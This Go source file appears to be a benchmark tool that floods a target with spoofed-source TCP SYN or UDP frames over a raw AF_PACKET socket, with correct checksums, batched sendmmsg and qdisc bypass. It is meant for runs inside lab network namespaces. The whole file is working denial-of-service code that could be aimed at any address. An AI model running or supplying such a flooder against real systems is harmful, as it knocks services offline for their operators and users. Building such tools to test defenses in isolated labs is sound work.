//go:build ignore

// flood: a bounded flood of crafted IPv4 frames (TCP SYNs or UDP, random
// spoofed sources and ports) written on an AF_PACKET socket, for
// flood.sh. Run it in the attacker's namespace:
//
//	go build -o flood benchmarks/hostile-probes/flood.go
//	ip netns exec NS ./flood -i eth0 -dst-mac MAC -src 10.16.0.0/12 \
//	    -dst 10.1.0.2 -proto syn -dport 80 -duration 6s [-pps N]
//
// Every frame has a fresh source address (from -src), source port,
// sequence number and IP ID; -dport 0 picks a random destination port
// per frame; -dst takes several addresses (comma-separated), one picked
// per frame. IP, TCP and UDP checksums are right, so hosts take the
// frames. -pps 0 writes as fast as one thread can (sendmmsg, 64 frames a
// call, PACKET_QDISC_BYPASS); frames the kernel refuses (a full ring)
// are counted, not retried. At the end it prints one line:
//
//	flood: sent N refused R in D s: P pps; cpu U+S s (C% of one core)
//
// where cpu is the process's user and system time (getrusage).
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

type mmsghdr struct {
	hdr unix.Msghdr
	n   uint32
	_   [4]byte
}

// frameSize is every frame's length: the Ethernet minimum without FCS.
const frameSize = 60

// generator writes the flood's frames: templates with the fixed fields,
// filled per frame with a fresh source, ports, sequence and ID.
type generator struct {
	syn      bool
	dport    uint16 // 0: random per frame
	base     uint32 // the source prefix's network address
	hostMask uint32
	dsts     [][4]byte
	rng      uint64
}

func main() {
	ifname := flag.String("i", "eth0", "interface")
	dstMAC := flag.String("dst-mac", "", "destination MAC (the router's)")
	srcCIDR := flag.String("src", "10.16.0.0/12", "spoofed sources: random addresses of this prefix")
	dsts := flag.String("dst", "", "destination addresses, comma-separated (one picked per frame)")
	proto := flag.String("proto", "syn", "syn or udp")
	dport := flag.Int("dport", 0, "destination port (0: random per frame)")
	pps := flag.Float64("pps", 0, "frames a second (0: as fast as possible)")
	dur := flag.Duration("duration", 6*time.Second, "how long")
	flag.Parse()

	ifi, err := net.InterfaceByName(*ifname)
	if err != nil {
		fail("%v", err)
	}
	dmac, err := net.ParseMAC(*dstMAC)
	if err != nil {
		fail("-dst-mac: %v", err)
	}
	g := newGenerator(*srcCIDR, *dsts, *proto, *dport)
	fd := openSocket(ifi.Index)

	const batch = 64
	frames := make([][frameSize]byte, batch)
	iov := make([]unix.Iovec, batch)
	msgs := make([]mmsghdr, batch)
	for i := range frames {
		g.template(frames[i][:], dmac, ifi.HardwareAddr)
		iov[i].Base = &frames[i][0]
		iov[i].SetLen(frameSize)
		msgs[i].hdr.Iov = &iov[i]
		msgs[i].hdr.SetIovlen(1)
	}
	n := batch
	if *pps > 0 && *pps < 64000 {
		n = int(*pps/1000) + 1
	}

	start := time.Now()
	sent, refused := sendLoop(fd, g, frames, msgs[:n], *pps, start.Add(*dur))
	el := time.Since(start).Seconds()
	var ru unix.Rusage
	_ = unix.Getrusage(unix.RUSAGE_SELF, &ru)
	u := float64(ru.Utime.Sec) + float64(ru.Utime.Usec)/1e6
	s := float64(ru.Stime.Sec) + float64(ru.Stime.Usec)/1e6
	fmt.Printf("flood: sent %d refused %d in %.2f s: %.0f pps; cpu %.2f+%.2f s (%.0f%% of one core)\n",
		sent, refused, el, float64(sent)/el, u, s, 100*(u+s)/el)
}

func fail(f string, a ...any) {
	fmt.Fprintf(os.Stderr, "flood: "+f+"\n", a...)
	os.Exit(1)
}

// newGenerator checks the flags that shape the frames.
func newGenerator(srcCIDR, dsts, proto string, dport int) *generator {
	pfx, err := netip.ParsePrefix(srcCIDR)
	if err != nil || !pfx.Addr().Is4() {
		fail("-src: %v", err)
	}
	g := &generator{syn: proto == "syn", dport: uint16(dport), rng: uint64(time.Now().UnixNano()) | 1}
	for _, s := range splitComma(dsts) {
		a, err := netip.ParseAddr(s)
		if err != nil || !a.Is4() {
			fail("-dst %q: not an IPv4 address", s)
		}
		g.dsts = append(g.dsts, a.As4())
	}
	if len(g.dsts) == 0 {
		fail("-dst: none")
	}
	if proto != "syn" && proto != "udp" {
		fail("-proto: syn or udp")
	}
	g.base = binary.BigEndian.Uint32(pfx.Masked().Addr().AsSlice())
	if pfx.Bits() < 32 {
		g.hostMask = 1<<(32-pfx.Bits()) - 1
	}
	return g
}

// openSocket: a raw AF_PACKET socket bound to the interface, receiving
// nothing, bypassing the qdisc.
func openSocket(ifindex int) int {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0) // protocol 0: receives nothing
	if err != nil {
		fail("socket: %v", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: ifindex}); err != nil {
		fail("bind: %v", err)
	}
	_ = unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1)
	return fd
}

// template writes a frame's fixed fields: the MACs, the EtherType and
// the IPv4 header's constant part.
func (g *generator) template(f []byte, dst, src net.HardwareAddr) {
	copy(f[0:6], dst)
	copy(f[6:12], src)
	binary.BigEndian.PutUint16(f[12:], 0x0800)
	ip := f[14:34]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], frameSize-14) // 46: padding counted as payload (UDP) or trailing (TCP)
	ip[8] = 64
	if g.syn {
		binary.BigEndian.PutUint16(ip[2:], 40)
		ip[9] = 6
	} else {
		ip[9] = 17
	}
}

// next: xorshift64*.
func (g *generator) next() uint64 {
	g.rng ^= g.rng >> 12
	g.rng ^= g.rng << 25
	g.rng ^= g.rng >> 27
	return g.rng * 2685821657736338717
}

// fill gives a templated frame a fresh source address, ID, ports (and
// sequence number), and its checksums.
func (g *generator) fill(f []byte) {
	r := g.next()
	src := g.base | uint32(r)&g.hostMask
	if src&g.hostMask == 0 || src&g.hostMask == g.hostMask { // not the network or broadcast address
		src ^= 1
	}
	d := g.dsts[0]
	if len(g.dsts) > 1 {
		d = g.dsts[(r>>40)%uint64(len(g.dsts))]
	}
	ip := f[14:34]
	binary.BigEndian.PutUint16(ip[4:], uint16(r>>32)) // ID
	binary.BigEndian.PutUint32(ip[12:], src)
	copy(ip[16:20], d[:])
	ip[10], ip[11] = 0, 0
	binary.BigEndian.PutUint16(ip[10:], csum(ip, 0))
	sport := uint16(1024 + (r>>16)%64000)
	dp := g.dport
	if dp == 0 {
		dp = uint16(1 + (r>>48)%65535)
	}
	l4 := f[34:]
	var l4len int
	if g.syn {
		l4len = 20
		t := l4[:20]
		binary.BigEndian.PutUint16(t[0:], sport)
		binary.BigEndian.PutUint16(t[2:], dp)
		binary.BigEndian.PutUint32(t[4:], uint32(g.next()))
		binary.BigEndian.PutUint32(t[8:], 0)
		t[12] = 5 << 4
		t[13] = 0x02 // SYN
		binary.BigEndian.PutUint16(t[14:], 64240)
		t[16], t[17] = 0, 0
	} else {
		l4len = frameSize - 34
		u := l4[:l4len]
		binary.BigEndian.PutUint16(u[0:], sport)
		binary.BigEndian.PutUint16(u[2:], dp)
		binary.BigEndian.PutUint16(u[4:], uint16(l4len))
		u[6], u[7] = 0, 0
	}
	// Pseudo-header sum, then the segment.
	var ph uint32
	ph += uint32(binary.BigEndian.Uint16(ip[12:])) + uint32(binary.BigEndian.Uint16(ip[14:]))
	ph += uint32(binary.BigEndian.Uint16(ip[16:])) + uint32(binary.BigEndian.Uint16(ip[18:]))
	ph += uint32(ip[9]) + uint32(l4len)
	c := csum(l4[:l4len], ph)
	if g.syn {
		binary.BigEndian.PutUint16(l4[16:], c)
	} else {
		if c == 0 {
			c = 0xffff
		}
		binary.BigEndian.PutUint16(l4[6:], c)
	}
}

// sendLoop writes len(msgs) frames a sendmmsg until end, paced to pps
// (0: as fast as it can); frames the kernel refuses are counted, not
// retried.
func sendLoop(fd int, g *generator, frames [][frameSize]byte, msgs []mmsghdr, pps float64, end time.Time) (sent, refused uint64) {
	start := time.Now()
	n := len(msgs)
	for {
		now := time.Now()
		if !now.Before(end) {
			return sent, refused
		}
		if pps > 0 {
			due := start.Add(time.Duration(float64(sent+refused) / pps * 1e9))
			if due.After(now) {
				time.Sleep(due.Sub(now))
				continue
			}
		}
		for i := 0; i < n; i++ {
			g.fill(frames[i][:])
		}
		r1, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&msgs[0])), uintptr(n), 0, 0, 0)
		if errno != 0 {
			if errno == unix.ENOBUFS || errno == unix.EAGAIN {
				refused += uint64(n)
				continue
			}
			fail("sendmmsg: %v", errno)
		}
		sent += uint64(r1)
		refused += uint64(n) - uint64(r1)
	}
}

func csum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func splitComma(s string) []string {
	var out []string
	start := 0
	for i := 0; i <= len(s); i++ {
		if i == len(s) || s[i] == ',' {
			if i > start {
				out = append(out, s[start:i])
			}
			start = i + 1
		}
	}
	return out
}
